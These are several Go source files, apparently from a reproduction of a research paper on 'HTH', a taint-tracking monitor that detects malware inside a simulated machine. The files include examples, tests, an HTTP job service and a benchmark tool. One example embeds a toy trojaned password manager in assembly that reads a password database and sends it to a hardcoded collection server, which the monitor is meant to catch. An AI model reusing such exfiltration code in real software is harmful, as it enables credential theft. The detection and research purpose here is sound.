		{"/bin/filter", wellBehaved},
		{"/bin/dropper", dropper},
	} {
		img, err := asm.Assemble(prog.name, prog.src)
		if err != nil {
			log.Fatal(err)
		}
		rep, err := secbin.Verify(img)
		if err != nil {
			log.Fatal(err)
		}
		fmt.Print(rep)
	}

	// The dynamic monitor reaches the same conclusion at run time.
	fmt.Println("\n--- dynamic check of /bin/dropper ---")
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/dropper", dropper)
	res, err := sys.Run(hth.DefaultConfig(), hth.RunSpec{Path: "/bin/dropper"})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(res.Report())
}
