// Trojan detection: the pwsafe scenario of paper §8.4.1. A password
// manager is trojaned to exfiltrate data to a hardcoded server; HTH
// catches the flow, and a kill-at-High advisor can stop a more
// aggressive variant before the data leaves.
//
// This example demonstrates:
//   - scripted remote peers (the attacker's collection server),
//   - information-flow warnings with full provenance,
//   - the continue/kill advisor loop of paper §4,
//   - recording a replayable JSONL event trace (-trace FILE; inspect
//     it with `hth-trace -replay FILE`).
package main

import (
	"flag"
	"fmt"
	"log"
	"os"

	hth "repro"
	"repro/internal/secpert"
	"repro/internal/vos"
)

// The trojaned password manager: after its normal export work it
// opens a connection to a hardcoded host and sends the database.
const pwunsafe = `
.text
_start:
    ; normal behaviour: read the database, print it for the user
    mov ebx, dbpath
    mov ecx, 0
    mov eax, 5          ; open
    int 0x80
    mov ebx, eax
    mov ecx, dbbuf
    mov edx, 32
    mov eax, 3          ; read
    int 0x80
    mov edx, eax
    mov ecx, dbbuf
    mov ebx, 1
    mov eax, 4          ; write to stdout (benign)
    int 0x80
    ; trojan: exfiltrate the same buffer to the hardcoded server
    mov eax, 102
    mov ebx, 1          ; socket
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], srv
    mov eax, 102
    mov ebx, 3          ; connect
    mov ecx, scargs
    int 0x80
    mov [scargs+4], dbbuf
    mov [scargs+8], 20
    mov eax, 102
    mov ebx, 9          ; send
    mov ecx, scargs
    int 0x80
    hlt
.data
dbpath: .asciz "/.pwsafe.dat"
srv:    .asciz "duero:40400"
dbbuf:  .space 32
scargs: .space 12
`

// sink is the attacker's collection server: it counts what arrives.
type sink struct{ received *int }

func (*sink) OnConnect(*vos.RemoteConn) {}

func (s *sink) OnData(_ *vos.RemoteConn, data []byte) {
	*s.received += len(data)
}

func main() {
	tracePath := flag.String("trace", "", "write run 1's JSONL event trace to this file")
	provenance := flag.Bool("provenance", false, "print the causal provenance chain under each warning")
	introspect := flag.String("introspect", "", "serve run 1's live introspection (/metrics, /events, /flight) on this address")
	flag.Parse()

	// The trace observer is attached to run 1 only: the observe run is
	// deterministic end to end, so its trace can be diffed or replayed.
	var opts []hth.Option
	if *tracePath != "" {
		f, err := os.Create(*tracePath)
		if err != nil {
			log.Fatal(err)
		}
		defer f.Close()
		opts = append(opts, hth.WithObserver(hth.JSONL(f)))
	}
	var opts2 []hth.Option
	if *provenance {
		opts = append(opts, hth.WithProvenance())
		opts2 = append(opts2, hth.WithProvenance())
	}
	if *introspect != "" {
		opts = append(opts, hth.WithIntrospection(*introspect))
	}

	fmt.Println("=== run 1: observe (continue past warnings) ===")
	stolen := runOnce(nil, opts...)
	fmt.Printf("bytes that reached the attacker: %d\n\n", stolen)

	fmt.Println("=== run 2: enforce (kill at High) ===")
	stolen = runOnce(secpert.KillAtOrAbove(secpert.High), opts2...)
	fmt.Printf("bytes that reached the attacker: %d\n", stolen)
}

func runOnce(advisor secpert.Advisor, opts ...hth.Option) int {
	sys := hth.NewSystem()
	sys.CreateFile("/.pwsafe.dat", []byte("site1:alice:hunter2\n"))

	received := 0
	sys.AddRemote("duero:40400", func() vos.RemoteScript {
		return &sink{received: &received}
	})
	sys.MustInstallSource("/bin/pwsafe", pwunsafe)

	cfg := hth.NewConfig(append(opts, hth.WithAdvisor(advisor))...)
	res, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/pwsafe", Argv: []string{"/bin/pwsafe", "--exportdb"}})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(res.Report())
	if res.Introspection != nil {
		fmt.Printf("introspection served on http://%s/ for this run\n", res.Introspection.Addr())
		res.Introspection.Shutdown()
	}
	if res.Process.Killed {
		fmt.Println("guest was KILLED by the monitor")
	}
	return received
}
