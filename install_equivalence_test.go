package hth_test

import (
	"strings"
	"testing"

	hth "repro"
	"repro/internal/corpus"
)

// TestInstallSourceEquivalence is the api_redesign identity gate:
// InstallSource now routes through the format registry
// (image.DecodeAs("asm", ...)) instead of calling the assembler
// directly, and that refactor must be invisible. The whole corpus is
// swept once under the legacy direct path and once under the registry
// path; the sweep signatures — steps, outcome, problem count, and an
// FNV-64a hash of every warning's full text — must match element-wise.
func TestInstallSourceEquivalence(t *testing.T) {
	if testing.Short() {
		t.Skip("full corpus sweep")
	}
	scs := corpus.All()
	if len(scs) == 0 {
		t.Fatal("empty corpus")
	}
	prev := hth.SetLegacyInstall(true)
	legacy := corpus.SweepSignature(corpus.RunAll(scs, 0))
	hth.SetLegacyInstall(prev)
	registry := corpus.SweepSignature(corpus.RunAll(scs, 0))

	if len(legacy) != len(registry) {
		t.Fatalf("sweep sizes diverged: %d vs %d", len(legacy), len(registry))
	}
	for i := range legacy {
		if legacy[i] != registry[i] {
			t.Errorf("scenario %s diverged:\n legacy:   %s\n registry: %s",
				scs[i].Name, legacy[i], registry[i])
		}
	}
}

// TestInstallSourceDiagnosticsEquivalence pins the error surface: a
// program that fails to assemble must report the identical diagnostic
// through both paths — the registry wraps nothing around compile
// errors (a bad program is not a malformed container).
func TestInstallSourceDiagnosticsEquivalence(t *testing.T) {
	const bad = ".text\n_start:\n    bogus eax, 1\n"
	prev := hth.SetLegacyInstall(true)
	legacyErr := hth.NewSystem().InstallSource("/bin/bad", bad)
	hth.SetLegacyInstall(prev)
	registryErr := hth.NewSystem().InstallSource("/bin/bad", bad)
	if legacyErr == nil || registryErr == nil {
		t.Fatalf("bad program accepted: legacy=%v registry=%v", legacyErr, registryErr)
	}
	if legacyErr.Error() != registryErr.Error() {
		t.Errorf("diagnostics diverged:\n legacy:   %s\n registry: %s", legacyErr, registryErr)
	}
	if !strings.Contains(registryErr.Error(), "bogus") {
		t.Errorf("diagnostic does not name the offending mnemonic: %s", registryErr)
	}
}
