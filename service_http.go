package hth

import (
	"encoding/json"
	"fmt"
	"net/http"
	"time"

	"repro/internal/obs"
)

// Handler exposes the service over HTTP/JSON:
//
//	POST /jobs            submit a JobSpec; 202 with the job id.
//	POST /jobs?wait=1     block until the job terminates; the JobResult.
//	POST /jobs?stream=1   JSONL stream: accepted line, live updates,
//	                      terminal result line.
//	GET  /jobs/{id}       poll a job: status plus the result once done.
//	GET  /jobs/{id}/trace the job's lifecycle span trace as Chrome
//	                      trace_event JSON (open in Perfetto):
//	                      submit→queue→exec→verdict with runCore phase
//	                      and per-tier time children under each exec.
//	GET  /healthz         shard health snapshot (503 while draining),
//	                      including per-stage p50/p95/p99 latency
//	                      rollups and the deadline-burn p95 gauge.
//	GET  /metrics         Prometheus text exposition of the registry.
//
// Failure mapping: a malformed spec is 400 with the typed JobError, a
// full shard queue is 429 with a Retry-After header, a draining
// service is 503. A submitted job can never be lost: every admitted
// id resolves to a terminal result (or a structured abort) until
// evicted by ServiceConfig.KeepResults.
func (s *Service) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /jobs", s.handleSubmit)
	mux.HandleFunc("GET /jobs/{id}", s.handleGet)
	mux.HandleFunc("GET /jobs/{id}/trace", s.handleTrace)
	mux.HandleFunc("GET /healthz", s.handleHealth)
	mux.HandleFunc("GET /metrics", s.handleMetrics)
	return mux
}

func writeJSON(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	enc.Encode(v)
}

// httpError is the wire form of a rejection.
type httpError struct {
	Error *JobError `json:"error"`
}

func (s *Service) handleSubmit(w http.ResponseWriter, r *http.Request) {
	var spec JobSpec
	dec := json.NewDecoder(http.MaxBytesReader(w, r.Body, 8<<20))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&spec); err != nil {
		writeJSON(w, http.StatusBadRequest, httpError{
			Error: &JobError{Code: JobBadSpec, Msg: "invalid JSON: " + err.Error()},
		})
		return
	}
	stream := r.URL.Query().Get("stream") == "1"
	if stream {
		spec.Stream = true
	}
	h, err := s.Submit(spec)
	if err != nil {
		switch e := err.(type) {
		case *JobError:
			writeJSON(w, http.StatusBadRequest, httpError{Error: e})
		case *OverloadError:
			secs := int(e.RetryAfter / time.Second)
			if e.RetryAfter%time.Second != 0 {
				secs++ // Retry-After is whole seconds; round up
			}
			w.Header().Set("Retry-After", fmt.Sprint(secs))
			writeJSON(w, http.StatusTooManyRequests, httpError{
				Error: &JobError{Code: "overloaded", Msg: e.Error()},
			})
		default: // ErrDraining
			writeJSON(w, http.StatusServiceUnavailable, httpError{
				Error: &JobError{Code: "draining", Msg: err.Error()},
			})
		}
		return
	}
	switch {
	case stream:
		s.streamJob(w, r, h)
	case r.URL.Query().Get("wait") == "1":
		res, err := h.Wait(r.Context())
		if err != nil { // client went away; the job still terminates
			writeJSON(w, http.StatusRequestTimeout, httpError{
				Error: &JobError{Code: "client-gone", Msg: err.Error()},
			})
			return
		}
		writeJSON(w, http.StatusOK, res)
	default:
		writeJSON(w, http.StatusAccepted, map[string]any{
			"id": h.ID(), "shard": h.Shard(), "status": h.Status(),
		})
	}
}

// streamJob writes the job's life as JSONL: one accepted record, each
// live update as it arrives, and the terminal result. A reader that
// stalls loses updates (never the result) — the worker is never
// blocked by a slow tenant.
func (s *Service) streamJob(w http.ResponseWriter, r *http.Request, h *JobHandle) {
	w.Header().Set("Content-Type", "application/x-ndjson")
	w.WriteHeader(http.StatusOK)
	fl, _ := w.(http.Flusher)
	enc := json.NewEncoder(w)
	flush := func() {
		if fl != nil {
			fl.Flush()
		}
	}
	enc.Encode(map[string]any{"event": "accepted", "id": h.ID(), "shard": h.Shard()})
	flush()
	updates := h.Updates() // nil when shed: the loop skips straight to done
	for updates != nil {
		select {
		case u, ok := <-updates:
			if !ok {
				updates = nil
				continue
			}
			enc.Encode(u)
			flush()
		case <-r.Context().Done():
			return // job keeps running; result stays pollable
		}
	}
	select {
	case <-h.Done():
	case <-r.Context().Done():
		return
	}
	enc.Encode(map[string]any{"event": "result", "result": h.Result()})
	flush()
}

func (s *Service) handleGet(w http.ResponseWriter, r *http.Request) {
	h := s.Lookup(r.PathValue("id"))
	if h == nil {
		writeJSON(w, http.StatusNotFound, httpError{
			Error: &JobError{Code: "unknown-job", Msg: "no such job (or evicted)"},
		})
		return
	}
	resp := map[string]any{"id": h.ID(), "status": h.Status()}
	if res := h.Result(); res != nil {
		resp["result"] = res
	}
	writeJSON(w, http.StatusOK, resp)
}

// handleTrace serves a job's span trace in Chrome trace_event JSON —
// drop the response straight into Perfetto or chrome://tracing.
func (s *Service) handleTrace(w http.ResponseWriter, r *http.Request) {
	h := s.Lookup(r.PathValue("id"))
	if h == nil || h.Spans() == nil {
		writeJSON(w, http.StatusNotFound, httpError{
			Error: &JobError{Code: "unknown-job", Msg: "no such job (or evicted)"},
		})
		return
	}
	w.Header().Set("Content-Type", "application/json")
	h.Spans().WriteChromeTrace(w)
}

func (s *Service) handleHealth(w http.ResponseWriter, r *http.Request) {
	hs := s.Health()
	code := http.StatusOK
	if hs.Draining {
		code = http.StatusServiceUnavailable
	}
	writeJSON(w, code, hs)
}

func (s *Service) handleMetrics(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
	obs.WritePrometheus(w, s.metrics.Snapshot())
}
