package main

import (
	"fmt"
	"os"
	"strings"

	hth "repro"
	"repro/internal/chaos"
	"repro/internal/corpus"
	"repro/internal/report"
)

// runChaos is the -chaos mode: a robustness gate over the full corpus
// rather than a table reproduction. It checks the two guarantees the
// fault-injection subsystem makes:
//
//  1. A zero-rate plan is guest-invisible — its sweep is bit-identical
//     (per the sweep signature) to a plain run of the same corpus.
//  2. Under a fault-injecting plan, every scenario still ends in a
//     structured outcome: a result or an error value, never an escaped
//     panic, hang, or crash of the sweep itself.
//  3. The tiered taint engine stays signature-identical to the
//     interpreter tier under the same active fault plan: injected
//     faults perturb guest control flow, and both tiers must track the
//     perturbed execution to bit-identical detections.
//
// Returns the number of violated guarantees (0 = pass).
func runChaos(spec string, parallelism int) int {
	plan, err := chaos.ParsePlan(spec)
	if err != nil {
		fmt.Fprintf(os.Stderr, "hth-bench: -chaos %s\n", err)
		os.Exit(2)
	}
	scenarios := corpus.All()
	failures := 0

	// Guarantee 1: zero-rate invisibility against the plain baseline.
	zero := plan
	zero.Rate = 0
	base := corpus.SweepSignature(corpus.RunAll(scenarios, parallelism))
	inert := corpus.SweepSignature(corpus.RunAllChaos(scenarios, parallelism, zero))
	diverged := 0
	for i := range base {
		if base[i] != inert[i] {
			fmt.Printf("zero-rate divergence:\n  baseline %s\n  chaos    %s\n", base[i], inert[i])
			diverged++
		}
	}
	if diverged > 0 {
		failures++
	}
	fmt.Printf("zero-rate identity: %d/%d scenarios bit-identical to baseline\n\n",
		len(base)-diverged, len(base))

	if plan.Rate == 0 {
		return failures
	}

	// Guarantee 2: containment under real fault injection.
	outs := corpus.RunAllChaos(scenarios, parallelism, plan)
	t := &report.Table{
		Title:  fmt.Sprintf("Chaos sweep (plan %s)", plan),
		Header: []string{"Scenario", "Outcome", "Faults", "Status"},
	}
	faults, escapes := 0, 0
	for i := range outs {
		o := &outs[i]
		status := "contained"
		switch {
		case o.Err != nil && strings.Contains(o.Err.Error(), "panicked"):
			status = "ESCAPED PANIC"
			escapes++
			t.Add(o.Scenario.Name, "error: "+o.Err.Error(), "-", status)
		case o.Err != nil:
			t.Add(o.Scenario.Name, "error: "+o.Err.Error(), "-", status)
		default:
			faults += len(o.Result.Chaos)
			outcome := corpus.Outcome(o.Result)
			if o.Result.RunErr != nil {
				outcome += " (" + o.Result.RunErr.Error() + ")"
			}
			t.Add(o.Scenario.Name, outcome, fmt.Sprint(len(o.Result.Chaos)), status)
		}
	}
	fmt.Println(t)
	fmt.Printf("%d faults injected across %d scenarios; %d escaped panics\n",
		faults, len(outs), escapes)
	if escapes > 0 {
		failures++
	}

	// Guarantee 3: tier identity under the active plan. Fault streams
	// derive from the scenario name alone, so both sweeps see the same
	// injections and any signature delta is a tier divergence.
	threshold := func(n int) func(*corpus.Scenario, *hth.Config) {
		return func(_ *corpus.Scenario, cfg *hth.Config) { cfg.Monitor.PromoteThreshold = n }
	}
	interp := corpus.SweepSignature(corpus.RunAllChaosWith(scenarios, parallelism, plan, threshold(0)))
	tiered := corpus.SweepSignature(corpus.RunAllChaosWith(scenarios, parallelism, plan, threshold(1)))
	tierDiverged := 0
	for i := range interp {
		if interp[i] != tiered[i] {
			fmt.Printf("tier divergence under faults:\n  interpreter %s\n  tiered      %s\n",
				interp[i], tiered[i])
			tierDiverged++
		}
	}
	if tierDiverged > 0 {
		failures++
	}
	fmt.Printf("tier identity under faults: %d/%d scenarios bit-identical across tiers\n",
		len(interp)-tierDiverged, len(interp))
	return failures
}
