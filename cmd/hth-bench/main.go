// Command hth-bench regenerates the paper's evaluation tables: it
// runs every corpus scenario of the requested table, prints HTH's
// outcome per row, and marks whether the paper-reported result was
// reproduced.
//
//	hth-bench -table 4            # Table 4 (execution flow)
//	hth-bench -table all          # every table and macro benchmark
//	hth-bench -table perf        	# the §9 performance comparison
//	hth-bench -table all -parallel 4   # sweep scenarios on 4 workers
//	hth-bench -table perf -json        # also write BENCH_<date>.json
//	hth-bench -chaos 0xC0FFEE,0.05     # seeded fault-injection gate
//	hth-bench -serve -json             # corpus through hth.Service: jobs/s + identity
//
// The -chaos mode replaces table reproduction with the robustness
// gate: it verifies a zero-rate plan leaves the corpus bit-identical
// to the baseline, then sweeps the corpus under the given plan and
// asserts every injected fault lands as a structured outcome (no
// escaped panics, hangs or crashes).
//
// Scenario outcomes are independent of -parallel: every scenario runs
// in a private virtual machine, so a 4-wide sweep reports exactly the
// detections of a serial one, just sooner.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"runtime"
	"runtime/pprof"
	"time"

	hth "repro"
	"repro/internal/corpus"
	"repro/internal/report"
)

func main() {
	table := flag.String("table", "all", "table to regenerate: 1|4|5|6|7|8|pwsafe|mw|ttt|perf|all")
	parallel := flag.Int("parallel", 1, "scenario worker-pool width (0 = GOMAXPROCS)")
	jsonOut := flag.Bool("json", false, "write perf measurements to BENCH_<date>.json")
	chaosSpec := flag.String("chaos", "", "run the fault-injection gate with plan \"seed,rate[,kind...]\"")
	serve := flag.Bool("serve", false, "benchmark the analysis service: corpus through hth.Service, verify signature identity, report jobs/s")
	cpuProfile := flag.String("cpuprofile", "", "write a CPU profile of the run to this file")
	memProfile := flag.String("memprofile", "", "write a heap profile at exit to this file")
	introspect := flag.String("introspect", "", "serve live introspection (/metrics, /events, /flight, /debug/pprof) on this address")
	hold := flag.Bool("hold", false, "with -introspect: keep serving after the sweep until interrupted")
	flag.Parse()

	var intro *hth.Introspection
	if *introspect != "" {
		intro = hth.NewIntrospection()
		if err := intro.Start(*introspect); err != nil {
			fmt.Fprintf(os.Stderr, "hth-bench: -introspect: %v\n", err)
			os.Exit(2)
		}
		fmt.Printf("introspection on http://%s/ (metrics, events, flight, debug/pprof)\n", intro.Addr())
	}

	stopProfiles := startProfiles(*cpuProfile, *memProfile)
	var code int
	if *serve {
		code = runServe(*parallel, *jsonOut)
	} else {
		code = run(*table, *parallel, *jsonOut, *chaosSpec, intro)
	}
	stopProfiles()
	if intro != nil {
		if *hold {
			fmt.Printf("holding; interrupt to exit (introspection on http://%s/)\n", intro.Addr())
			ch := make(chan os.Signal, 1)
			signal.Notify(ch, os.Interrupt)
			<-ch
		}
		intro.Shutdown()
	}
	if code != 0 {
		os.Exit(code)
	}
}

func run(table string, parallel int, jsonOut bool, chaosSpec string, intro *hth.Introspection) int {
	if chaosSpec != "" {
		if runChaos(chaosSpec, parallel) > 0 {
			return 1
		}
		return 0
	}

	// The shared introspection server rides every scenario's bus as one
	// more observer; its sink is internally synchronized, so parallel
	// sweeps may publish into it concurrently.
	var tweak func(*corpus.Scenario, *hth.Config)
	if intro != nil {
		tweak = func(_ *corpus.Scenario, cfg *hth.Config) {
			cfg.Observers = append(cfg.Observers, intro)
		}
	}

	ids, perf := resolve(table)
	failures := 0
	for _, id := range ids {
		failures += printTable(id, corpus.RunAllWith(corpus.ByTable(id), parallel, tweak))
	}
	if perf {
		rows, metrics := printPerf(intro)
		if jsonOut {
			path := fmt.Sprintf("BENCH_%s.json", time.Now().Format("2006-01-02"))
			if err := writeBenchJSON(path, rows, metrics); err != nil {
				fmt.Fprintf(os.Stderr, "hth-bench: %v\n", err)
				return 1
			}
			fmt.Printf("wrote %s\n", path)
		}
	}
	if failures > 0 {
		fmt.Printf("\n%d row(s) diverged from the paper.\n", failures)
		return 1
	}
	return 0
}

// startProfiles arms the requested pprof outputs and returns the
// flush function main runs before exiting. Profiling failures are
// fatal: a silently missing profile defeats the point of asking for
// one.
func startProfiles(cpuPath, memPath string) func() {
	if cpuPath != "" {
		f, err := os.Create(cpuPath)
		if err != nil {
			fmt.Fprintf(os.Stderr, "hth-bench: -cpuprofile: %v\n", err)
			os.Exit(2)
		}
		if err := pprof.StartCPUProfile(f); err != nil {
			fmt.Fprintf(os.Stderr, "hth-bench: -cpuprofile: %v\n", err)
			os.Exit(2)
		}
	}
	return func() {
		if cpuPath != "" {
			pprof.StopCPUProfile()
		}
		if memPath != "" {
			f, err := os.Create(memPath)
			if err != nil {
				fmt.Fprintf(os.Stderr, "hth-bench: -memprofile: %v\n", err)
				os.Exit(2)
			}
			defer f.Close()
			runtime.GC() // materialize the live heap before sampling
			if err := pprof.WriteHeapProfile(f); err != nil {
				fmt.Fprintf(os.Stderr, "hth-bench: -memprofile: %v\n", err)
				os.Exit(2)
			}
		}
	}
}

func resolve(sel string) (ids []string, perf bool) {
	switch sel {
	case "1", "T1":
		return []string{"T1"}, false
	case "4", "T4":
		return []string{"T4"}, false
	case "5", "T5":
		return []string{"T5"}, false
	case "6", "T6":
		return []string{"T6"}, false
	case "7", "T7":
		return []string{"T7"}, false
	case "8", "T8":
		return []string{"T8"}, false
	case "pwsafe", "M1":
		return []string{"M1"}, false
	case "mw", "M2":
		return []string{"M2"}, false
	case "ttt", "M3":
		return []string{"M3"}, false
	case "perf":
		return nil, true
	case "all":
		return report.TableIDs, true
	}
	fmt.Fprintf(os.Stderr, "hth-bench: unknown table %q\n", sel)
	os.Exit(2)
	return nil, false
}

func verdictOf(o *corpus.RunOutcome) string {
	if o.Reproduced() {
		return "reproduced"
	}
	return "DIVERGED: " + o.Problems[0]
}

func printTable(id string, outs []corpus.RunOutcome) (failures int) {
	if id == "T1" {
		return printTable1(outs)
	}
	t := &report.Table{
		Title:  report.Titles[id],
		Header: []string{"Benchmark", "HTH outcome", "Paper expectation"},
	}
	for i := range outs {
		o := &outs[i]
		if o.Err != nil {
			t.Add(o.Scenario.Row, "ERROR: "+o.Err.Error(), "—")
			failures++
			continue
		}
		if !o.Reproduced() {
			failures++
		}
		t.Add(o.Scenario.Row, corpus.Outcome(o.Result), verdictOf(o))
	}
	fmt.Println(t)
	return failures
}

// printTable1 regenerates the paper's Table 1: the execution-pattern
// columns derived from HTH's warnings on the §2.1 malware models.
func printTable1(outs []corpus.RunOutcome) (failures int) {
	t := &report.Table{
		Title: report.Titles["T1"],
		Header: []string{"Exploit Name", "No user intervention",
			"Remotely directed", "Hard-coded Resources", "Degrading performance", "Status"},
	}
	mark := func(b bool) string {
		if b {
			return "x"
		}
		return ""
	}
	for i := range outs {
		o := &outs[i]
		if o.Err != nil {
			t.Add(o.Scenario.Row, "", "", "", "", "ERROR: "+o.Err.Error())
			failures++
			continue
		}
		if !o.Reproduced() {
			failures++
		}
		hard, remote, degrading := corpus.Table1Row(o.Result)
		// Every model runs without user direction by construction.
		t.Add(o.Scenario.Row, "x", mark(remote), mark(hard), mark(degrading), verdictOf(o))
	}
	fmt.Println(t)
	return failures
}

// perfRow is one workload×mode measurement, as serialized to the
// BENCH_<date>.json report.
type perfRow struct {
	Workload     string  `json:"workload"`
	Mode         string  `json:"mode"`
	GuestInstrs  uint64  `json:"guest_instrs"`
	WallNS       int64   `json:"wall_ns"`
	InstrsPerSec float64 `json:"guest_instrs_per_sec"`

	// Taint-store statistics (zero in bare mode): interned source
	// sets, union operations, union-cache hits, and the subset of hits
	// served by the direct-mapped fast cache.
	TaintSets      int    `json:"taint_sets"`
	TaintUnions    uint64 `json:"taint_unions"`
	TaintUnionHits uint64 `json:"taint_union_hits"`
	TaintFastHits  uint64 `json:"taint_fast_hits"`

	// Tiered taint engine statistics (zero outside full mode): blocks
	// promoted to compiled summaries, blocks pinned unmodelable, and
	// the fraction of all block entries served by the summary tier.
	TierPromoted uint64  `json:"tier_promoted,omitempty"`
	TierPinned   uint64  `json:"tier_pinned,omitempty"`
	TierHits     uint64  `json:"tier_hits,omitempty"`
	TierHitRate  float64 `json:"tier_hit_rate,omitempty"`

	// Trace tier statistics (zero outside full mode): superblock
	// traces compiled, block entries served inside a trace, side
	// exits taken, and trace entries dispatched tag-free through the
	// clean-taint gate.
	TraceCompiled  uint64 `json:"trace_compiled,omitempty"`
	TraceHits      uint64 `json:"trace_hits,omitempty"`
	TraceSideExits uint64 `json:"trace_side_exits,omitempty"`
	GateSkips      uint64 `json:"gate_skips,omitempty"`

	// Clean tier statistics (zero outside full mode): block/trace
	// entries that ran fully uninstrumented, verdicts cached by the
	// demotion machinery, and cached verdicts dropped because taint
	// reached their footprint (the re-instrumentation events).
	CleanHits         uint64 `json:"clean_hits,omitempty"`
	CleanDemotions    uint64 `json:"clean_demotions,omitempty"`
	ReinstrumentCount uint64 `json:"reinstrument_count,omitempty"`
}

func printPerf(intro *hth.Introspection) ([]perfRow, *hth.MetricsSnapshot) {
	t := &report.Table{
		Title:  "Section 9: Performance (virtual-machine throughput per monitoring level)",
		Header: []string{"Workload", "Mode", "Guest instrs", "Wall time", "Slowdown vs bare", "Tier hits", "Trace hits", "Gate", "Clean"},
	}
	// One shared metrics registry observes every perf run; its snapshot
	// lands under "metrics" in BENCH_<date>.json.
	registry := hth.NewMetrics()
	observers := []hth.Observer{registry}
	if intro != nil {
		observers = append(observers, intro)
	}
	var rows []perfRow
	for _, wl := range corpus.PerfWorkloads() {
		var bare time.Duration
		for _, mode := range []corpus.PerfMode{corpus.PerfBare, corpus.PerfNoDataflow, corpus.PerfFull} {
			start := time.Now()
			res, err := corpus.RunPerfObserved(wl, mode, observers...)
			elapsed := time.Since(start)
			if err != nil {
				fmt.Fprintf(os.Stderr, "hth-bench: perf %s/%s: %v\n", wl, mode, err)
				os.Exit(1)
			}
			if mode == corpus.PerfBare {
				bare = elapsed
			}
			slow := "1.00x"
			if bare > 0 {
				slow = fmt.Sprintf("%.2fx", float64(elapsed)/float64(bare))
			}
			// Summary-tier share of all block entries: how much of the
			// run the compiled fast path served.
			hitRate := 0.0
			if res.Stats.Blocks > 0 {
				hitRate = float64(res.Stats.TierHits) / float64(res.Stats.Blocks)
			}
			tier := "—"
			if res.Stats.TierPromoted+res.Stats.TierPinned > 0 {
				tier = fmt.Sprintf("%.1f%%", 100*hitRate)
			}
			// Trace-tier share of all block entries, and the fraction of
			// trace dispatches the clean-taint gate served tag-free.
			trace, gate := "—", "—"
			if res.Stats.TraceCompiled > 0 {
				trace = fmt.Sprintf("%.1f%%", 100*float64(res.Stats.TraceHits)/float64(res.Stats.Blocks))
				gate = fmt.Sprint(res.Stats.GateSkips)
			}
			// Clean-tier share of all block entries: the fraction that ran
			// fully uninstrumented after a footprint proof.
			clean := "—"
			if res.Stats.CleanDemoted > 0 {
				clean = fmt.Sprintf("%.1f%%", 100*float64(res.Stats.CleanHits)/float64(res.Stats.Blocks))
			}
			t.Add(wl, mode.String(), fmt.Sprint(res.TotalSteps),
				elapsed.Round(time.Microsecond).String(), slow, tier, trace, gate, clean)
			rows = append(rows, perfRow{
				Workload:       wl,
				Mode:           mode.String(),
				GuestInstrs:    res.TotalSteps,
				WallNS:         elapsed.Nanoseconds(),
				InstrsPerSec:   float64(res.TotalSteps) / elapsed.Seconds(),
				TaintSets:      res.Stats.TaintSets,
				TaintUnions:    res.Stats.TaintUnions,
				TaintUnionHits: res.Stats.TaintUnionHits,
				TaintFastHits:  res.Stats.TaintFastHits,
				TierPromoted:   res.Stats.TierPromoted,
				TierPinned:     res.Stats.TierPinned,
				TierHits:       res.Stats.TierHits,
				TierHitRate:    hitRate,
				TraceCompiled:  res.Stats.TraceCompiled,
				TraceHits:      res.Stats.TraceHits,
				TraceSideExits: res.Stats.TraceSideExits,
				GateSkips:      res.Stats.GateSkips,

				CleanHits:         res.Stats.CleanHits,
				CleanDemotions:    res.Stats.CleanDemoted,
				ReinstrumentCount: res.Stats.Reinstrumented,
			})
		}
	}
	fmt.Println(t)
	fmt.Println("Shape check (paper §9): data-flow tracking dominates the overhead the")
	fmt.Println("paper measures per instruction — but once the trace tier fuses hot")
	fmt.Println("blocks into superblocks, 'full' may undercut even 'bare': traces retire")
	fmt.Println("guest instructions without per-instruction dispatch, so the tiered")
	fmt.Println("engine repays the instrumentation cost on loop-dominated workloads.")
	return rows, registry.Snapshot()
}

// writeBenchJSON writes (or updates) the dated benchmark report. The
// tool owns the "date", "host", "perf" and "metrics" keys; any other
// top-level keys already in the file — e.g. a hand-captured
// "go_test_bench" section from `go test -bench` — are preserved, so
// regenerating the perf sweep does not wipe companion measurements.
func writeBenchJSON(path string, rows []perfRow, metrics *hth.MetricsSnapshot) error {
	doc := map[string]any{}
	if old, err := os.ReadFile(path); err == nil {
		// Best-effort: an unreadable or invalid existing file is
		// replaced rather than failing the run.
		_ = json.Unmarshal(old, &doc)
	}
	doc["date"] = time.Now().Format("2006-01-02")
	doc["host"] = map[string]any{
		"goos":       runtime.GOOS,
		"goarch":     runtime.GOARCH,
		"gomaxprocs": runtime.GOMAXPROCS(0),
	}
	doc["perf"] = rows
	doc["metrics"] = metrics
	out, err := json.MarshalIndent(doc, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(out, '\n'), 0o644)
}
