// Command hth-bench regenerates the paper's evaluation tables: it
// runs every corpus scenario of the requested table, prints HTH's
// outcome per row, and marks whether the paper-reported result was
// reproduced.
//
//	hth-bench -table 4        # Table 4 (execution flow)
//	hth-bench -table all      # every table and macro benchmark
//	hth-bench -table perf     # the §9 performance comparison
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"repro/internal/corpus"
	"repro/internal/report"
)

func main() {
	table := flag.String("table", "all", "table to regenerate: 4|5|6|7|8|pwsafe|mw|ttt|perf|all")
	flag.Parse()

	ids, perf := resolve(*table)
	failures := 0
	for _, id := range ids {
		failures += printTable(id)
	}
	if perf {
		printPerf()
	}
	if failures > 0 {
		fmt.Printf("\n%d row(s) diverged from the paper.\n", failures)
		os.Exit(1)
	}
}

func resolve(sel string) (ids []string, perf bool) {
	switch sel {
	case "1", "T1":
		return []string{"T1"}, false
	case "4", "T4":
		return []string{"T4"}, false
	case "5", "T5":
		return []string{"T5"}, false
	case "6", "T6":
		return []string{"T6"}, false
	case "7", "T7":
		return []string{"T7"}, false
	case "8", "T8":
		return []string{"T8"}, false
	case "pwsafe", "M1":
		return []string{"M1"}, false
	case "mw", "M2":
		return []string{"M2"}, false
	case "ttt", "M3":
		return []string{"M3"}, false
	case "perf":
		return nil, true
	case "all":
